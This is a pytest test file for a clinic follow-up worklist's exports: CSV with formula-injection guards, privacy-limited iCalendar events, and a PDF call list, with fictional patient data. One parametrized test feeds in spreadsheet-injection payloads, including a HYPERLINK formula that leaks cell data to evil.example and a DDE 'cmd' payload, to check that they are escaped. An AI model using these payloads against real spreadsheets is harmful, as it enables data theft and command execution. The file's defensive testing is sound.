"""Exports of the worklist: CSV for a spreadsheet (formula injection guarded), an iCalendar file
of scheduled follow-ups that shows only what the clinic chose, and the printable call list."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from icalendar import Calendar

from ldnclinic.domain.enums import AuditAction
from ldnclinic.domain.followups.rules import FollowupRules, FollowupType
from ldnclinic.domain.followups.worklist import CalendarDetail, ContactMethod, ContactOutcome
from ldnclinic.services.container import Services
from ldnclinic.services.context import Actor
from ldnclinic.services.followups.dto import FollowupItem
from tests.services.followup_support import CHICAGO, TODAY, add_followup, days, other_patient
from tests.services.rx_support import add_patient, pdf_text

T = FollowupType
REASON = "Ask whether the vivid dreams settled; call 512-555-0142 after 3 pm."
HEADER = [
    "Work date",
    "Due date",
    "When",
    "Type",
    "Status",
    "Appointment",
    "Snoozed until",
    "Patient",
    "MRN",
    "Date of birth",
    "Phone",
    "Assigned to",
    "Reason",
    "Attempts",
    "Last attempt",
]


@pytest.fixture
def pena(initialized: Services, staff: Actor) -> int:
    return add_patient(initialized, staff, visit=False)  # José Luis Peña, born 3/2/1961


@pytest.fixture
def nguyen(initialized: Services, staff: Actor) -> int:
    return other_patient(initialized, staff, "Thị Hằng", "Nguyễn", date_of_birth="1958-07-04")


def mrn(services: Services, actor: Actor, patient_id: int) -> str:
    return services.patients.get(actor, patient_id).mrn


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def unfolded(ics: bytes) -> str:
    """The calendar's text with folded lines joined again (RFC 5545 folds at 75 octets)."""
    return ics.decode().replace("\r\n ", "")


# --- CSV ------------------------------------------------------------------------------------------


def test_csv_has_a_header_and_one_row_per_item(
    initialized: Services, staff: Actor, pena: int, nguyen: int
) -> None:
    first = add_followup(initialized, staff, pena, TODAY, REASON, assignee_id=staff.user_id)
    initialized.followups.log_attempt(
        staff, first.id, first.version, method=ContactMethod.PHONE, outcome=ContactOutcome.NO_ANSWER
    )
    add_followup(initialized, staff, nguyen, TODAY + days(2), "Refill soon.", kind=T.REFILL_DUE)
    add_followup(initialized, staff, nguyen, TODAY + days(30), "Not this week.")  # not on the worklist
    table = rows(initialized.followups.export_csv(staff))
    assert table[0] == HEADER
    assert table[1:] == [
        [
            "2026-11-21",
            "2026-11-21",
            "Due today",
            "Other",
            "Open",
            "",
            "",
            "Peña, José Luis",
            mrn(initialized, staff, pena),
            "1961-03-02",
            "(512) 555-0142",
            "María López",
            REASON,
            "1",
            "11/21 Phone call: No answer",
        ],
        [
            "2026-11-23",
            "2026-11-23",
            "This week",
            "Refill due",
            "Open",
            "",
            "",
            "Nguyễn, Thị Hằng",
            mrn(initialized, staff, nguyen),
            "1958-07-04",
            "(512) 555-0142",
            "",
            "Refill soon.",
            "0",
            "",
        ],
    ]


def test_csv_of_an_empty_worklist_is_the_header_alone(initialized: Services, staff: Actor) -> None:
    assert rows(initialized.followups.export_csv(staff)) == [HEADER]


@pytest.mark.parametrize(
    "reason",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "+1 512 555 0100",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd",
    ],
)
def test_csv_quotes_a_cell_that_a_spreadsheet_would_run_as_a_formula(
    initialized: Services, staff: Actor, pena: int, reason: str
) -> None:
    add_followup(initialized, staff, pena, TODAY, reason)
    [_, row] = rows(initialized.followups.export_csv(staff))
    assert row[HEADER.index("Reason")] == "'" + reason


def test_csv_leaves_ordinary_text_alone(initialized: Services, staff: Actor, pena: int) -> None:
    add_followup(initialized, staff, pena, TODAY, "O'Brien's note: 2 + 2 = 4, see @clinic")
    [_, row] = rows(initialized.followups.export_csv(staff))
    assert row[HEADER.index("Reason")] == "O'Brien's note: 2 + 2 = 4, see @clinic"


def test_csv_export_is_audited_without_names(
    initialized: Services, staff: Actor, admin: Actor, pena: int
) -> None:
    add_followup(initialized, staff, pena, TODAY)
    initialized.followups.export_csv(staff)
    [entry] = initialized.audit.recent(admin, action=AuditAction.FOLLOWUPS_EXPORTED)
    assert (entry.username, entry.detail) == ("maria", "csv, 1 items")


# --- iCalendar ------------------------------------------------------------------------------------

SOON = datetime(2026, 11, 25, 16, 30, tzinfo=UTC)  # 10:30 am on 11/25 in Austin
LATE_EVENING = datetime(2026, 11, 26, 4, 30, tzinfo=UTC)  # 10:30 pm on 11/25 in Austin
NEXT_SPRING = datetime(2027, 3, 16, 15, 0, tzinfo=UTC)  # 10:00 am CDT, after the clocks change


@pytest.fixture
def scheduled(initialized: Services, staff: Actor, pena: int, nguyen: int) -> dict[datetime, FollowupItem]:
    """Three scheduled follow-ups, one open and one snoozed."""
    made = {
        SOON: add_followup(initialized, staff, pena, TODAY + days(4), REASON, kind=T.TITRATION_CHECK),
        LATE_EVENING: add_followup(initialized, staff, nguyen, TODAY + days(4), "Second call."),
        NEXT_SPRING: add_followup(
            initialized, staff, pena, TODAY + days(110), "Routine.", kind=T.ROUTINE_REVIEW
        ),
    }
    result = {
        when: initialized.followups.schedule(staff, item.id, item.version, when)
        for when, item in made.items()
    }
    add_followup(initialized, staff, pena, TODAY, "Open, not scheduled.")
    snoozed = add_followup(initialized, staff, nguyen, TODAY, "To be snoozed.")
    initialized.followups.snooze(staff, snoozed.id, snoozed.version, TODAY + days(3))
    return result


def events(ics: bytes) -> dict[str, object]:
    calendar = Calendar.from_ical(ics)
    return {str(event["uid"]): event for event in calendar.walk("VEVENT")}


def test_ics_parses_with_one_event_per_scheduled_item(
    initialized: Services, staff: Actor, scheduled: dict[datetime, FollowupItem]
) -> None:
    ics = initialized.followups.export_ics(staff)
    calendar = Calendar.from_ical(ics)
    found = calendar.walk("VEVENT")
    assert sorted(str(e["uid"]) for e in found) == sorted(
        f"followup-{i.id}@ldnclinic" for i in scheduled.values()
    )
    assert str(calendar["x-wr-calname"]) == "Hill Country LDN Clinic follow-ups"
    assert [str(tz["tzid"]) for tz in calendar.walk("VTIMEZONE")] == ["America/Chicago"]


def test_ics_events_start_at_the_appointment_in_austin(
    initialized: Services, staff: Actor, scheduled: dict[datetime, FollowupItem]
) -> None:
    calendar = Calendar.from_ical(initialized.followups.export_ics(staff))
    starts = {str(e["uid"]): e for e in calendar.walk("VEVENT")}
    for when, item in scheduled.items():
        event = starts[f"followup-{item.id}@ldnclinic"]
        assert event.decoded("dtstart") == when
        assert event["dtstart"].params["TZID"] == "America/Chicago"
        assert event.decoded("dtend") - event.decoded("dtstart") == timedelta(minutes=20)
    evening = starts[f"followup-{scheduled[LATE_EVENING].id}@ldnclinic"].decoded("dtstart")
    assert (evening.date().isoformat(), evening.hour) == ("2026-11-25", 22)  # the Austin day, not UTC's
    spring = starts[f"followup-{scheduled[NEXT_SPRING].id}@ldnclinic"].decoded("dtstart")
    assert spring.astimezone(CHICAGO).hour == 10


def test_ics_summary_shows_initials_and_mrn_and_nothing_else(
    initialized: Services, staff: Actor, pena: int, nguyen: int, scheduled: dict[datetime, FollowupItem]
) -> None:
    ics = initialized.followups.export_ics(staff)
    calendar = Calendar.from_ical(ics)
    summaries = {str(e["uid"]): str(e["summary"]) for e in calendar.walk("VEVENT")}
    pena_mrn, nguyen_mrn = mrn(initialized, staff, pena), mrn(initialized, staff, nguyen)
    assert summaries == {
        f"followup-{scheduled[SOON].id}@ldnclinic": f"Titration check: J.P. · MRN {pena_mrn}",
        f"followup-{scheduled[LATE_EVENING].id}@ldnclinic": f"Other: T.N. · MRN {nguyen_mrn}",
        f"followup-{scheduled[NEXT_SPRING].id}@ldnclinic": f"Routine review: J.P. · MRN {pena_mrn}",
    }
    text = unfolded(ics)
    for secret in (
        "Peña",
        "José",
        "Luis",
        "Pepe",
        "Nguyễn",
        "Hằng",
        "555-0142",
        "5125550142",
        "vivid dreams",
        "Second call",
    ):
        assert secret not in text


@pytest.mark.parametrize(
    ("detail", "expected"),
    [
        (CalendarDetail.MRN_ONLY, "Titration check: MRN {mrn}"),
        (CalendarDetail.FULL_NAME, "Titration check: José Peña · MRN {mrn}"),
    ],
)
def test_the_clinic_chooses_how_much_the_calendar_shows(
    initialized: Services,
    staff: Actor,
    admin: Actor,
    pena: int,
    scheduled: dict[datetime, FollowupItem],
    detail: CalendarDetail,
    expected: str,
) -> None:
    settings = initialized.followup_settings.get()
    initialized.followup_settings.update(admin, FollowupRules(), detail, settings.version)
    calendar = Calendar.from_ical(initialized.followups.export_ics(staff))
    [event] = [
        e for e in calendar.walk("VEVENT") if str(e["uid"]) == f"followup-{scheduled[SOON].id}@ldnclinic"
    ]
    assert str(event["summary"]) == expected.format(mrn=mrn(initialized, staff, pena))
    text = unfolded(initialized.followups.export_ics(staff))
    for phone in ("(512)", "555-0142", "5125550142"):  # the phone in any form (a random MRN may hold "555")
        assert phone not in text


def test_ics_through_limits_the_events(
    initialized: Services, staff: Actor, scheduled: dict[datetime, FollowupItem]
) -> None:
    from ldnclinic.services.followups.dto import WorklistFilter

    calendar = Calendar.from_ical(
        initialized.followups.export_ics(staff, WorklistFilter(through=TODAY + days(7)))
    )
    assert len(calendar.walk("VEVENT")) == 2  # next spring's appointment is left out


def test_ics_of_nothing_scheduled_is_a_valid_empty_calendar(
    initialized: Services, staff: Actor, pena: int
) -> None:
    add_followup(initialized, staff, pena, TODAY)
    calendar = Calendar.from_ical(initialized.followups.export_ics(staff))
    assert calendar.walk("VEVENT") == []
    assert str(calendar["version"]) == "2.0"


def test_ics_export_is_audited(
    initialized: Services, staff: Actor, admin: Actor, scheduled: dict[datetime, FollowupItem]
) -> None:
    initialized.followups.export_ics(staff)
    [entry] = initialized.audit.recent(admin, action=AuditAction.FOLLOWUPS_EXPORTED)
    assert entry.detail == "ics, 3 events, initials_mrn"


# --- the call list --------------------------------------------------------------------------------


def test_the_call_list_pdf_names_each_patient_and_mrn(
    initialized: Services, staff: Actor, pena: int, nguyen: int
) -> None:
    add_followup(initialized, staff, pena, TODAY - days(2), "Overdue call.")
    add_followup(initialized, staff, nguyen, TODAY + days(1), "Call tomorrow.")
    pdf = initialized.followups.call_list_pdf(staff)
    assert pdf.startswith(b"%PDF")
    text = pdf_text(pdf)
    assert text is not None, "poppler-utils (pdftotext) is needed to read the PDF"
    for expected in (
        "Peña, José",
        "Nguyễn, Thị",
        mrn(initialized, staff, pena),
        mrn(initialized, staff, nguyen),
    ):
        assert expected in text
    assert "Follow-up call list" in text


def test_the_call_list_is_audited(initialized: Services, staff: Actor, admin: Actor, pena: int) -> None:
    add_followup(initialized, staff, pena, TODAY)
    initialized.followups.call_list_pdf(staff)
    [entry] = initialized.audit.recent(admin, action=AuditAction.FOLLOWUPS_EXPORTED)
    assert entry.detail == "call list, 1 items"
